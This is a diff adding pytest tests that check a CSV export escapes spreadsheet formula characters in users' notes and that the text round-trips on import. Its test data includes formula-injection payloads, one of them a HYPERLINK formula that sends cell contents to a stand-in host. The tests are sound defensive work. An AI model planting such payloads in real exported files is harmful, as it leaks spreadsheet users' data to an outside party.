@@ -548,3 +548,58 @@ def test_import_log_refuses_a_file_that_is_not_utf8(alice, tmp_path):
     path.write_bytes(csv_of(row(notes="café")).encode("latin-1"))
     with pytest.raises(CommandError, match="not UTF-8 text"):
         call_command("import_log", "alice", str(path))
+
+
+# --- Spreadsheet formulas -----------------------------------------------------------------------
+
+DANGEROUS_NOTES = [
+    "=1+1",
+    '=HYPERLINK("http://example.com/?"&A1,"click")',
+    "+44 20 7946 0000",
+    "-2 on the stairs",
+    "@SUM(A1:A2)",
+    "\tindented",
+    "\rcarriage return",
+    "'=already quoted",
+    "''",
+    "'",
+    "it's fine",
+]
+
+
+@pytest.mark.parametrize("note", DANGEROUS_NOTES)
+def test_a_note_that_a_spreadsheet_would_run_is_exported_as_text_and_comes_back_as_typed(
+    alice, bob, note
+):
+    from tests.helpers import log_session
+
+    log_session(alice, 1, notes=note)
+    out = io.StringIO()
+    write_csv(alice, out)
+    cell = next(csv.DictReader(io.StringIO(out.getvalue())))["notes"]
+    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+    assert import_csv(bob, out.getvalue()).errors == []
+    assert Session.objects.get(user=bob).notes == note
+
+
+def test_a_quote_is_added_only_where_it_is_needed():
+    from progress.csvlog import escape_cell
+
+    assert escape_cell("=1+1") == "'=1+1"
+    assert escape_cell("walked 2 km") == "walked 2 km"
+    assert escape_cell("it's fine") == "it's fine"
+
+
+def test_any_text_survives_escaping():
+    from hypothesis import given
+    from hypothesis import strategies as st
+
+    from progress.csvlog import FORMULA_START, escape_cell, unescape_cell
+
+    @given(st.text(alphabet=st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'", "a", " "])))
+    def survives(text):
+        escaped = escape_cell(text)
+        assert unescape_cell(escaped) == text
+        assert not escaped.startswith(FORMULA_START)
+
+    survives()
